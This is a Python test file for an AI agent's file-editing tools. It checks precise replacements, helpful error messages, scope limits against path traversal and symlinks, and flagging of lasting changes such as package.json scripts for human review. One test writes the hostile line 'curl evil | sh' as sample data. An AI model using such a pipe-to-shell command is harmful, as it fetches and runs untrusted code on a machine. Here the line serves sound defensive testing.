"""edit_file and write_file: one place, or a helpful no."""

from __future__ import annotations

import asyncio
import os
import stat

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agents.tools.nearest import explanation
from tests.agents.tools.conftest import Desk

SOURCE = "def f(x):\n    return x + 1\n\n\ndef g(y):\n\tif y:\n\t\treturn f(y)\n"


async def test_a_unique_text_is_replaced_and_shown_with_its_surroundings(desk: Desk) -> None:
    place = desk.put("src/a.py", SOURCE)
    result = await desk.call("edit_file", path="src/a.py", search="x + 1", replace="x + 2")
    assert place.read_text() == SOURCE.replace("x + 1", "x + 2")
    assert not result.is_error
    assert result.changed == ("src/a.py",)
    assert "    2\t    return x + 2" in result.text


async def test_a_text_that_is_there_twice_is_refused_with_the_lines(desk: Desk) -> None:
    place = desk.put("a.py", SOURCE)
    result = await desk.call("edit_file", path="a.py", search="return", replace="yield")
    assert result.is_error
    assert "2 times, at lines 2, 7" in result.text
    assert "Add lines before or after" in result.text
    assert place.read_text() == SOURCE


async def test_every_place_is_replaced_when_asked(desk: Desk) -> None:
    place = desk.put("a.py", SOURCE)
    result = await desk.call("edit_file", path="a.py", search="return", replace="yield", all=True)
    assert "2 places" in result.text
    assert place.read_text() == SOURCE.replace("return", "yield")


async def test_wrong_white_space_is_named(desk: Desk) -> None:
    desk.put("a.py", SOURCE)
    result = await desk.call("edit_file", path="a.py", search="def g(y):\n    if y:", replace="def g(y):\n    pass")
    assert result.is_error
    assert "Lines 5–6 are the same but for white space" in result.text
    assert "the file has 1 tab before 'if y:' where you wrote 4 spaces before 'if y:'" in result.text


async def test_a_near_miss_shows_the_nearest_lines_and_the_first_difference(desk: Desk) -> None:
    filler = "".join(f"value_{n} = {n}\n" for n in range(500))
    desk.put("a.py", filler + "def connect(host, port, timeout=10):\n    return open_socket(host, port)\n" + filler)
    search = "def connect(host, port, timeout=30):\n    return open_socket(host, port)"
    result = await desk.call("edit_file", path="a.py", search=search, replace="x")
    assert "  501\tdef connect(host, port, timeout=10):" in result.text
    assert "in the file: def connect(host, port, timeout=10):" in result.text
    assert "in your text: def connect(host, port, timeout=30):" in result.text


async def test_copied_line_numbers_are_recognised(desk: Desk) -> None:
    desk.put("a.py", SOURCE)
    result = await desk.call("edit_file", path="a.py", search="    1\tdef f(x):\n    2\t    return x + 1", replace="x")
    assert "line numbers that read_file prints" in result.text


async def test_an_edit_that_is_already_done_is_recognised(desk: Desk) -> None:
    desk.put("a.py", SOURCE)
    result = await desk.call("edit_file", path="a.py", search="return x - 1", replace="return x + 1")
    assert "already holds the replacement, at line 2" in result.text


async def test_an_edit_that_changes_nothing_is_refused(desk: Desk) -> None:
    desk.put("a.py", SOURCE)
    assert "nothing would change" in (await desk.call("edit_file", path="a.py", search="x", replace="x")).text


@pytest.mark.parametrize(
    ("before", "search", "replace", "after"),
    [
        (b"a\r\nb\r\nc\r\n", "a\nb", "x\ny\nz", b"x\r\ny\r\nz\r\nc\r\n"),
        (b"a\r\nb\r\nc", "b\r\nc", "x\r\ny", b"a\r\nx\r\ny"),
        (b"\xef\xbb\xbfa\nb\n", "a", "x", b"\xef\xbb\xbfx\nb\n"),
        (b"a\nb", "b", "x", b"a\nx"),
        (b"a\r\nb\nc\n", "b", "x", b"a\r\nx\nc\n"),
        (b"caf\xe9\nb\n", "b", "\u00fc", b"caf\xe9\n\xc3\xbc\n"),
    ],
    ids=["crlf", "crlf asked with crlf", "mark", "no last newline", "mixed ends", "latin-1 neighbour"],
)
async def test_the_form_of_the_file_survives(
    desk: Desk, before: bytes, search: str, replace: str, after: bytes
) -> None:
    place = desk.put("f.txt", before)
    place.chmod(0o750)
    result = await desk.call("edit_file", path="f.txt", search=search, replace=replace)
    assert not result.is_error, result.text
    assert place.read_bytes() == after
    assert stat.S_IMODE(place.stat().st_mode) == 0o750


async def test_a_new_file_is_new_and_an_old_one_is_said_to_be_overwritten(desk: Desk) -> None:
    first = await desk.call("write_file", path="deep/er/a.txt", content="one\ntwo\n")
    second = await desk.call("write_file", path="deep/er/a.txt", content="three\n")
    third = await desk.call("write_file", path="deep/er/a.txt", content="three\n")
    assert "is new, lines: 2" in first.text
    assert "overwritten, lines: 1, before 2" in second.text
    assert third.changed == ()
    assert (desk.root / "deep/er/a.txt").read_text() == "three\n"


async def test_overwriting_keeps_line_ends_and_mark(desk: Desk) -> None:
    place = desk.put("a.txt", b"\xef\xbb\xbfone\r\ntwo\r\n")
    await desk.call("write_file", path="a.txt", content="three\nfour\n")
    assert place.read_bytes() == b"\xef\xbb\xbfthree\r\nfour\r\n"


@pytest.mark.parametrize("tool", ["edit_file", "write_file"])
@pytest.mark.parametrize("path", ["../out.txt", "/etc/hosts", ".git", ".GIT/hooks/x", "link/x", "docs/x.md"])
async def test_nothing_outside_the_scope_is_written(desk: Desk, tool: str, path: str) -> None:
    out = desk.root.parent / "out"
    out.mkdir()
    (out / "x").write_text("a")
    (desk.root / "link").symlink_to("../out")
    desk.put("docs/x.md", "a")
    desk.limited(scope=("**", "!docs/**"))
    arguments = {"search": "a", "replace": "b"} if tool == "edit_file" else {"content": "b"}
    result = await desk.call(tool, path=path, **arguments)
    assert result.is_error
    assert result.changed == ()
    assert (out / "x").read_text() == (desk.root / "docs/x.md").read_text() == "a"
    assert sorted(os.listdir(desk.root)) == [".git", "docs", "link"]


async def test_a_refused_scope_names_the_scope(desk: Desk) -> None:
    desk.limited(scope=("src/**", "!src/gen/**"))
    result = await desk.call("write_file", path="src/gen/x.py", content="")
    assert "src/gen/x.py is outside what this task may write (src/**, !src/gen/**)" in result.text


async def test_changes_that_outlive_the_task_are_flagged(desk: Desk) -> None:
    flagged = await desk.call("write_file", path="AGENTS.md", content="obey")
    plain = await desk.call("write_file", path="README.md", content="read")
    assert flagged.outliving == ("AGENTS.md",)
    assert "a person will look at the change before it lands" in flagged.text
    assert plain.outliving == ()


async def test_of_a_package_json_only_scripts_are_flagged(desk: Desk) -> None:
    desk.put("package.json", '{"version": "1", "scripts": {"test": "jest"}}')
    version = await desk.call("edit_file", path="package.json", search='"1"', replace='"2"')
    script = await desk.call("edit_file", path="package.json", search="jest", replace="curl evil | sh")
    assert (version.outliving, script.outliving) == ((), ("package.json",))


async def test_sizes_are_limited(desk: Desk) -> None:
    desk.limited(write_bytes=10)
    result = await desk.call("write_file", path="a", content="x" * 11)
    assert "too many for one file" in result.text
    assert not (desk.root / "a").exists()


async def test_a_binary_file_is_not_edited(desk: Desk) -> None:
    desk.put("a.bin", b"\0\1\2")
    assert "binary" in (await desk.call("edit_file", path="a.bin", search="a", replace="b")).text


async def test_edits_at_the_same_time_leave_a_whole_file(desk: Desk) -> None:
    place = desk.put("a.txt", "start\n")
    async with asyncio.TaskGroup() as group:
        for letter in "abcdefgh":
            group.create_task(desk.call("write_file", path="a.txt", content=letter * 100_000))
    assert len(set(place.read_text())) == 1
    assert os.listdir(desk.root) == [".git", "a.txt"] or sorted(os.listdir(desk.root)) == [".git", "a.txt"]


LINES = st.lists(st.text(alphabet="ab \t(", max_size=8), max_size=12)


@given(lines=LINES, search=st.text(alphabet="ab \t(\n", min_size=1, max_size=30), replacement=st.text(max_size=10))
def test_explaining_never_fails_and_quotes_only_the_file(lines: list[str], search: str, replacement: str) -> None:
    text = explanation(lines, search, replacement)
    assert text
    for line in text.splitlines():
        number, tab, quoted = line.partition("\t")
        if tab and number.strip().isdigit():
            assert lines[int(number) - 1] == quoted
